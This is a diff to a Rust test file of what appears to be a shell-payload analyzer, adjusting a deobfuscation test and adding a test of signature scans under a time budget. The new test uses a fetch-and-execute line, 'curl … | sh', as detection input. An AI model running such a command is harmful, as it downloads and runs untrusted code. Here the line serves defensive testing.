@@ -255,7 +255,8 @@ fn a_pattern_without_benign_use_holds_its_written_weight_whatever_training_says(
 
 /// A `set` variable that doubles itself each time it is expanded, with non-ASCII text
 /// around it (found by fuzzing): eight layers of growing size, the last of MiBs, each
-/// searched by the fast automata and tokenized once (`cargo bench -p warden-payload --bench
+/// searched by the fast automata, the decoded forms' scans within one budget, and
+/// tokenized once (`cargo bench -p warden-payload --bench
 /// analyze -- a_self_doubling_variable` times it).
 #[test]
 fn a_self_doubling_variable_is_decoded_to_the_layer_limit_and_judged() {
@@ -263,13 +264,20 @@ fn a_self_doubling_variable_is_decoded_to_the_layer_limit_and_judged() {
     let v = a.analyze(SELF_DOUBLING, Some(Shell::Cmd));
     assert_eq!(v.layers.len(), deobf::MAX_LAYERS + 1, "{:?}", v.notes);
     assert!(v.layers.last().is_some_and(|l| l.text.len() > 1 << 20));
-    assert!(
-        !v.notes.iter().any(|n| n.contains("ran out of time")),
-        "{:?}",
-        v.notes
-    );
     assert_eq!(v.level, ThreatLevel::Low);
-    assert_eq!(Triage::from(&v), a.triage(SELF_DOUBLING, Some(Shell::Cmd)));
+}
+
+#[test]
+fn scans_that_share_a_spent_budget_stop_and_say_so() {
+    let s = signatures::Signatures::new();
+    let text = ["curl -s http://203.0.113.9/x | sh"];
+    let open = s.scan_until(
+        text,
+        std::time::Instant::now() + std::time::Duration::from_secs(60),
+    );
+    assert!(open.finished && !open.hits.is_empty());
+    let spent = s.scan_until(text, std::time::Instant::now());
+    assert!(!spent.finished && spent.hits.is_empty());
 }
 
 /// The input of [`a_self_doubling_variable_is_decoded_to_the_layer_limit_and_judged`].
